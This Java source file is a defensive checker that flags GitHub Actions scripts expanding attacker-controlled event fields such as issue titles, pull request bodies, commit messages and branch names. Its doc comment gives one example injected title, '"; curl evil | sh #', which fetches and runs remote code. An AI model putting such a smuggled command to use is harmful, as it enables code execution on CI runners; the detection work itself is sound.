package dev.omniarchitect.kinds.githubactions;

import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The event fields an outsider writes (issue and pull request titles and bodies, comments, commit
 * messages, branch names), which must never be expanded into a script with {@code ${{ }}}: GitHub
 * substitutes them into the shell text before it runs, so a title like {@code "; curl evil | sh #} runs.
 */
final class UntrustedInput {

    private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}", Pattern.DOTALL);
    private static final Pattern UNTRUSTED = Pattern.compile("github\\.(head_ref|event\\.("
            + "issue\\.(title|body)|pull_request\\.(title|body|head\\.(ref|label|repo\\.default_branch))"
            + "|comment\\.body|review\\.body|review_comment\\.body|discussion\\.(title|body)"
            + "|pages\\.[^.\\s]+\\.page_name|commits\\.[^.\\s]+\\.(message|author\\.(email|name))"
            + "|head_commit\\.(message|author\\.(email|name))"
            + "|workflow_run\\.(head_branch|head_commit\\.(message|author\\.(email|name)))))");

    private UntrustedInput() {
    }

    /** The first expression of a script that expands untrusted input, if any. */
    static Optional<String> find(String script) {
        Matcher expression = EXPRESSION.matcher(script);
        while (expression.find()) {
            if (UNTRUSTED.matcher(expression.group(1)).find()) {
                return Optional.of(expression.group().strip());
            }
        }
        return Optional.empty();
    }
}
